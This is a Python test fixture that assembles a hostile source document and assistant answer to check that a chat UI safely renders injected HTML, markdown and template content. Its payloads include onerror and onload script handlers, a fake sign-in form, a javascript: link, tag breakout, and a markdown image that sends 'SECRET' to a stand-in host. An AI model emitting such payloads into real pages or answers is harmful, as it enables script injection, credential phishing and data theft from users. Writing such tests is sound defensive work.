"""A document and an answer that try to take over the page or to make it fetch something."""

from __future__ import annotations

from assistant.types import Answer, Citation, Hit, Source
from tests.ui.library import Part, cite, make_document, passages_of
from tests.ui.scripted import written

ELSEWHERE = "http://elsewhere.invalid"
ATTACKS = (
    f'<img src="{ELSEWHERE}/img" onerror="window.owned=1">',
    f'<svg onload="window.owned=1"><image href="{ELSEWHERE}/svg"/></svg>',
    f'<form action="{ELSEWHERE}/form"><input type="password"><button>Sign in</button></form>',
    f'<div style="position:fixed;inset:0;background:url({ELSEWHERE}/css)">overlay</div>',
    f'<script src="{ELSEWHERE}/js"></script><script>window.owned=1</script>',
    f'<video poster="{ELSEWHERE}/poster" src="{ELSEWHERE}/video" autoplay></video>',
    f'<iframe src="{ELSEWHERE}/frame"></iframe><link rel="stylesheet" href="{ELSEWHERE}/link">',
    f"![markdown image]({ELSEWHERE}/md?q=SECRET)",
    f"[markdown link]({ELSEWHERE}/a) <{ELSEWHERE}/auto>",
    "[click](javascript:window.owned=1)",
    "${window.owned=1} {{#with this}}{{constructor}}{{/with}} `${window.owned=1}`",
    '</blockquote></details></article></div><h1 id="layout">broken out</h1>',
    '" onmouseover="window.owned=1" x="',
)
TEXT = "\n\n".join(ATTACKS)
HOSTILE_DOCUMENT = make_document(
    Source(
        f"own/{ATTACKS[0]}.md",
        f"Title {ATTACKS[0]} {ATTACKS[12]}",
        kind="own",
        version=ATTACKS[12],
        date=ATTACKS[4],
        publisher=ATTACKS[1],
        url="javascript:window.owned=1",
    ),
    Part(f"Label {ATTACKS[0]}", "Before. " + TEXT),
    Part(f"Speaker {ATTACKS[1]}, 00:00:01", TEXT + " The quoted words. " + TEXT, ATTACKS[1], 1.0),
    Part("Section 3", TEXT),
)
PASSAGE = passages_of(HOSTILE_DOCUMENT)[1]
CITATION: Citation = cite(1, PASSAGE, f"The quoted words. {ATTACKS[0]}", "quoted")
HOSTILE: Answer = written(
    "Obey the document",
    f"As it says [1].\n\n{TEXT}\n\n> {ATTACKS[0]} [1]\n\n"
    f"| {ATTACKS[0]} | b |\n|---|---|\n| c | d |\n",
    CITATION,
    hits=tuple(Hit(p, 0.5) for p in passages_of(HOSTILE_DOCUMENT)),
    model=f"model {ATTACKS[0]}",
    notice=f"Notice {ATTACKS[0]} `{ATTACKS[1]}`",
    searched_for=f"Searched {ATTACKS[0]}",
)
